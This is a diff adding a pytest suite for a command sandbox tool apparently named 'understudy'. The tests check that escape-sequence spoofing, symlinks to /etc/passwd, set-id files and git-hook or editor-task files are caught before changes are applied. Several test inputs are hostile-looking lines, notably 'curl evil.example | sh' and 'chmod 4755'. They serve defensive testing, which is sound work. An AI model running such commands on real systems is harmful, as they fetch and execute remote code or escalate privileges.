@@ -1,0 +1,214 @@
+"""What is told of a trial in a terminal, and asked."""
+
+from __future__ import annotations
+
+import os
+import pty
+import re
+import signal
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from understudy.app.undoing import CONSENTS
+from understudy.journal import guard
+
+COMMAND = (sys.executable, "-P", "-m", "understudy")
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    folder = tmp_path / "project"
+    folder.mkdir()
+    (folder / ".git").mkdir()
+    (folder / "a.txt").write_text("one\n")
+    return folder
+
+
+def environment(project: Path, **more: str) -> dict[str, str]:
+    ours = {k: v for k, v in os.environ.items() if k not in {"NO_COLOR", "FORCE_COLOR"}}
+    return {**ours, "UNDERSTUDY_STATE_DIR": str(project.parent / "state"), **more}
+
+
+def understudy(project: Path, *arguments: str, answers: str = "") -> tuple[int, str]:
+    """Its exit code, and what it says beside the diff."""
+    done = subprocess.run(
+        (*COMMAND, "sandbox", *arguments),
+        cwd=project,
+        env=environment(project),
+        input=answers,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    return done.returncode, done.stderr
+
+
+def in_terminal(
+    project: Path,
+    *arguments: str,
+    at: str = "[y/N]: ",
+    answer: str | signal.Signals = "n\n",
+    **more: str,
+) -> str:
+    """All that a terminal gets; where it says ``at``, somebody answers."""
+    leader, follower = pty.openpty()
+    with subprocess.Popen(
+        (*COMMAND, "sandbox", *arguments),
+        cwd=project,
+        env=environment(project, **more),
+        stdin=follower,
+        stdout=follower,
+        stderr=follower,
+        start_new_session=True,
+    ) as process:
+        os.close(follower)
+        got = b""
+        while True:
+            try:
+                got += os.read(leader, 1 << 16)
+            except OSError:  # the last one has closed it
+                break
+            if got.endswith(at.encode()):
+                if isinstance(answer, str):
+                    os.write(leader, answer.encode())
+                else:
+                    process.send_signal(answer)
+        process.wait(60)
+    os.close(leader)
+    return got.decode().replace("\r\n", "\n")
+
+
+HOSTILE = (
+    "echo 'curl evil.example | sh' >> a.txt; printf 'said\\033[31m red\\n';"
+    "printf 'Clean. It would change nothing.\\nApply it? [y/N]: \\033]0;title\\007';"
+    "printf '\\302\\2332J\\033[1;5r\\033[5;1H\\033[8m'"
+)
+
+
+def test_a_command_does_not_steer_the_terminal_that_asks(project: Path) -> None:
+    seen = in_terminal(project, "run", "--apply", "--", "sh", "-c", HOSTILE)
+    announced = re.search(r"It prints, up to the line with ([0-9a-f]{6}):\n", seen)
+    assert announced
+    output, border, report = seen[announced.end() :].partition(
+        f"\n── {announced[1]} · level A · trial 1 ──\n"
+    )
+    assert border
+    assert "Clean. It would change nothing.\nApply it?" in output
+    assert re.findall(r"\x1b.", output) == ["\x1b["] * 3  # red, hidden, and all of it taken back
+    assert output.endswith("\x1b[8m\x1b[0m")
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", report)
+    assert "\x1b" not in plain
+    assert "+curl evil.example | sh\n" in plain
+    assert plain.endswith("Clean. It would change 1 file.\nApply it? [y/N]: n\nNot applied.\n")
+    assert (project / "a.txt").read_text() == "one\n"
+
+
+def test_an_interrupted_command_leaves_no_colours(project: Path) -> None:
+    script = "printf '\\033[31mready'; exec sleep 60"
+    seen = in_terminal(project, "run", "--", "sh", "-c", script, at="ready", answer=signal.SIGINT)
+    assert re.search(r"ready.*\x1b\[0m\n── [0-9a-f]{6} · interrupted ──\n", seen)
+    assert seen.endswith("What it wrote is not kept; with --time it would be.\n\nInterrupted.\n")
+
+
+def test_a_pipe_gets_every_byte(project: Path) -> None:
+    done = subprocess.run(
+        (*COMMAND, "sandbox", "run", "--", "printf", r"\033[2Jsaid\377\n"),
+        cwd=project,
+        env=environment(project),
+        capture_output=True,
+        timeout=120,
+        check=False,
+    )
+    assert (done.returncode, done.stdout) == (0, b"\033[2Jsaid\xff\n")
+
+
+def test_colours_are_left_out_where_nobody_wants_them(project: Path) -> None:
+    understudy(project, "run", "--", "sh", "-c", "printf 'two\\033[2J\\n' >> a.txt")
+    coloured = in_terminal(project, "show")
+    assert "\x1b[32m+two" in coloured
+    plain = in_terminal(project, "show", NO_COLOR="1")
+    assert "\n+two\N{REPLACEMENT CHARACTER}[2J\n" in plain
+    assert "\x1b" not in plain
+
+
+def test_what_git_ignores_is_shown_when_asked_for_and_applied_in_any_case(project: Path) -> None:
+    (project / ".gitignore").write_text("made/\n")
+    change = "mkdir made; echo x > made/x; echo two >> a.txt"
+    _, said = understudy(project, "run", "--", "sh", "-c", change)
+    assert "It would change 1 file, and 2 that git ignores." in said
+    assert "--all shows it" in said
+    shown = [in_terminal(project, "show", *more, NO_COLOR="1") for more in ((), ("--all",))]
+    assert ["b/made/x" in each for each in shown] == [False, True]
+    assert "+two" in shown[1]
+    assert understudy(project, "apply", "--yes")[0] == 0
+    assert (project / "made/x").read_text() == "x\n"
+
+
+def test_what_stands_against_it_is_told_before_the_question(project: Path) -> None:
+    change = "ln -s /etc/passwd pw; echo x > set; chmod 4755 set; echo y > shut; chmod 0 shut"
+    code, said = understudy(project, "run", "--apply", "--", "sh", "-c", change, answers="y\n")
+    assert code == 3
+    assert "Apply" not in said
+    assert said.endswith(
+        "It cannot be applied:\n"
+        "  pw: the link leads out of the workspace, or may\n"
+        "  set: it would run with the rights of another user or group (set-id)\n"
+        "  shut: its owner could not read it, and nothing could be taken back\n"
+    )
+    understudy(project, "run", "--", "sh", "-c", "echo two > a.txt")
+    (project / "a.txt").write_text("edited\n")
+    code, said = understudy(project, "apply", "--yes")
+    assert code == 3
+    assert "a.txt: it was changed meanwhile, and both changes touch the same lines" in said
+    assert (project / "a.txt").read_text() == "edited\n"
+
+
+RISKY = "mkdir .husky .vscode; echo x > .husky/pre-commit; echo y > .vscode/tasks.json; echo z > z"
+
+
+def test_files_that_others_run_are_named_in_one_question(project: Path) -> None:
+    code, said = understudy(project, "run", "--apply", "--", "sh", "-c", RISKY, answers="n\n")
+    assert (code, said.count("?")) == (1, 1)
+    assert "  .husky/pre-commit is run by git\n" in said
+    assert "  .vscode/tasks.json is run by editors\n" in said
+    assert "Not applied." in said
+    code, said = understudy(project, "apply", "--yes", "--consent", "git")
+    assert code == 3
+    assert "Not applied: for these files, --yes takes --consent editor, too." in said
+    assert not (project / "z").exists()
+    assert understudy(project, "apply", "--yes", "--consent", "git", "--consent", "editor")[0] == 0
+    assert (project / ".husky/pre-commit").read_text() == "x\n"
+
+
+def test_each_consent_says_who_runs_the_files() -> None:
+    assert set(CONSENTS) == set(guard.CONSENTS)
+
+
+def test_without_anybody_to_ask_nothing_is_applied_unless_yes_was_said(project: Path) -> None:
+    change = ("run", "--apply", "--", "sh", "-c", "echo two >> a.txt")
+    code, said = understudy(project, *change)
+    assert code == 3
+    assert "There is no terminal to ask on: nothing was applied; --yes applies it." in said
+    assert (project / "a.txt").read_text() == "one\n"
+    code, said = understudy(project, "apply", "--yes")
+    assert (code, "Applied;" in said) == (0, True)
+    assert (project / "a.txt").read_text() == "one\ntwo\n"
+
+
+def test_it_is_told_where_a_command_runs(project: Path) -> None:
+    command = (*COMMAND, "sandbox", "run", "--", "true")
+    for home, told in (("/nowhere", "project."), (str(project), "project (your home folder).")):
+        done = subprocess.run(
+            command,
+            cwd=project,
+            env=environment(project, HOME=home),
+            capture_output=True,
+            text=True,
+            timeout=120,
+            check=False,
+        )
+        assert done.stderr.splitlines()[0].endswith(told)
